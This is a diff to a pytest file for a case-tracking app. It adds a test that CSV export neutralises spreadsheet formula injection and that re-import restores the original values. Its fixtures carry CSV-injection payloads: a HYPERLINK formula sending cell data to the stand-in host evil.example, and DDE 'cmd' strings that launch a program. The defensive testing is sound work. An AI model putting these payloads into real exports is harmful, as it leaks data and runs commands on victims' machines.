@@ -2,14 +2,17 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
+import os
+import uuid
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
-from sqlalchemy import event, func, select
+from sqlalchemy import create_engine, event, func, make_url, select, text
 from sqlalchemy.exc import DataError
 from sqlmodel import col
 
@@ -410,3 +413,69 @@ def test_export_streams_in_key_set_batches(tmp_path: Path) -> None:
     assert [written for _, written in reads] == [0, 1000, 2000, 3000]
     assert all(transfer.EXPORT_BATCH in params for params, _ in reads)
     assert "LIMIT" in str(transfer._export_batch(0, (), transfer.EXPORT_BATCH))
+
+
+# -- CSV cells a spreadsheet would run (issue 11.5) --------------------------------------------
+
+# What a spreadsheet runs when a cell starts with it (OWASP "CSV Injection"); a leading tab or
+# carriage return cannot be stored (every text field is stripped), tests/unit/test_text.py has them.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def twin(source: Desk, request: pytest.FixtureRequest) -> Iterator[Desk]:
+    """A second, empty database on the same engine as ``source``."""
+    if source.engine.dialect.name == "sqlite":
+        desk = open_desk(f"sqlite:///{Path(str(source.engine.url.database)).with_name('twin.db')}")
+        yield desk
+        desk.close()
+        return
+    base = make_url(os.environ["KESU_DESK_TEST_PG_URL"])
+    schema = f"kesu_test_{uuid.uuid4().hex[:12]}"
+    admin = create_engine(base)
+    with admin.begin() as conn:
+        conn.execute(text(f"CREATE SCHEMA {schema}"))
+    desk = open_desk(base.update_query_dict({"options": f"-csearch_path={schema}"})
+                     .render_as_string(hide_password=False))
+    try:
+        yield desk
+    finally:
+        desk.close()
+        with admin.begin() as conn:
+            conn.execute(text(f"DROP SCHEMA {schema} CASCADE"))
+        admin.dispose()
+
+
+def jsonl(desk: Desk) -> list[dict[str, Any]]:
+    out = io.StringIO()
+    export_cases(desk, out, "jsonl")
+    return [json.loads(line) for line in out.getvalue().splitlines()]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_import_undoes_it(
+    source: Desk, twin: Desk, tmp_path: Path
+) -> None:
+    for start in ("=", "+", "-", "@", "'", "'=", "''"):
+        register(
+            source, customer_name=f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            email="" if start == "@" else f"{start}wang@example.com",
+            product=f"{start}cmd|' /C calc'!A0", order_no=f"{start}1+1", batch=f"{start}B7",
+            category=f"{start}quality", description=f"{start}SUM(A1:A9)",
+            customer_request=f"{start}2+5+cmd|' /C calc'!A0",
+        )
+    register(source, description="-5", customer_request="-12.50")  # numbers stay numbers
+    path = tmp_path / "cases.csv"
+    with path.open("w", encoding="utf-8", newline="") as out:
+        assert export_cases(source, out, "csv") == 8
+
+    with path.open(encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    running = [c for c in cells if c.startswith(FORMULA_STARTS) and c not in ("-5", "-12.50")]
+    assert running == []
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
+    assert "''=SUM(A1:A9)" in cells and "'''SUM(A1:A9)" in cells and "'+86 13800138000" not in cells
+    assert "'+8613800138000" in cells  # a phone in E.164 starts with +
+
+    report = import_cases(twin, path, "ag")
+    assert report == ImportReport(8, 0, [])
+    assert jsonl(twin) == jsonl(source)
